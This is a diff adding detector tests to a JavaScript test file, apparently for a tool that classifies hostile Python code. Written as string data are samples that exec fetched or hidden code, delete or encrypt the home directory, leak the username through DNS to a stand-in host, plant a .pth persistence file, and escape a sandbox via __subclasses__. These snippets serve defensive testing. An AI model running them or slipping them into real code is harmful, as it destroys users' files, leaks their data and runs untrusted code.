@@ -157,4 +157,79 @@ describe('a Python program', () => {
       attackIn(text, true);
     expect(performance.now() - began).toBeLessThan(8000);
   });
+
+  it.each([
+    [
+      'unpickles what it fetches',
+      'import pickle, requests',
+      'w = pickle.loads(requests.get("http://127.0.0.1:9/").content)',
+    ],
+    [
+      'runs as code what it fetches',
+      'import dns.resolver',
+      'exec(dns.resolver.resolve("a.test", "TXT")[0].strings[0])',
+    ],
+    ['runs as code what stands hidden in the source', 'exec(bytes(b ^ 23 for b in b"~gxecx7xd").decode())'],
+    [
+      'runs as code what stands hidden in the source',
+      'import marshal',
+      'exec(marshal.loads(open("k.bin", "rb").read()))',
+    ],
+    [
+      'runs as code what a picture, a sound or weights hold',
+      'from PIL import Image',
+      'bits = [p[0] & 1 for p in Image.open("a.png").getdata()]',
+      'exec(bytes(int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, 80, 8)).decode())',
+    ],
+    ['removes the files of whoever runs it', 'import shutil, os', 'shutil.rmtree(os.path.expanduser("~"))'],
+    [
+      'encrypts the files of whoever runs it',
+      'import os',
+      'from cryptography.fernet import Fernet',
+      'for r, _, fs in os.walk(os.path.expanduser("~")):',
+      '    for f in fs:',
+      '        b = open(os.path.join(r, f), "rb").read()',
+      '        Fernet(K).encrypt(b)',
+    ],
+    [
+      'tells a name server who runs it',
+      'import socket, getpass',
+      'socket.gethostbyname(getpass.getuser() + ".a.test")',
+    ],
+    [
+      'writes a line that every start of Python runs',
+      'import site, os',
+      'with open(os.path.join(site.getusersitepackages(), "a.pth"), "w") as f:',
+      '    f.write("import os")',
+    ],
+    [
+      'climbs from a value to functions of other modules',
+      'f = ().__class__.__base__.__subclasses__()[9].__init__.__globals__["x"]',
+    ],
+  ])('is told where it %s', (what, ...lines) => {
+    expect(told(...lines)).toBe(what);
+  });
+
+  it.each([
+    ['unpickles what it is given', 'import pickle', 'def load(b):', '    return pickle.loads(b)'],
+    [
+      'runs compiled code that it is given',
+      'import marshal, types',
+      'def load(b):',
+      '    return types.FunctionType(marshal.loads(b), {})',
+    ],
+    ['removes its own folder', 'import shutil', 'shutil.rmtree("/tmp/work")', 'shutil.rmtree("~/.cache/x")'],
+    ['asks for its own address', 'import socket', 'socket.gethostbyname(socket.gethostname())'],
+    ['saves weights', 'import torch', 'with open("model.pth", "wb") as f:', '    torch.save(m, f)'],
+    ['looks at its subclasses', 'names = [c.__name__ for c in Base.__subclasses__()]'],
+    [
+      'encrypts what it is given',
+      'from cryptography.fernet import Fernet',
+      'def lock(b):',
+      '    return Fernet(K).encrypt(b)',
+    ],
+    ['shows a picture', 'from PIL import Image', 'Image.open("a.png").show()'],
+  ])('is left alone where it %s', (_, ...lines) => {
+    expect(told(...lines)).toBeNull();
+  });
 });
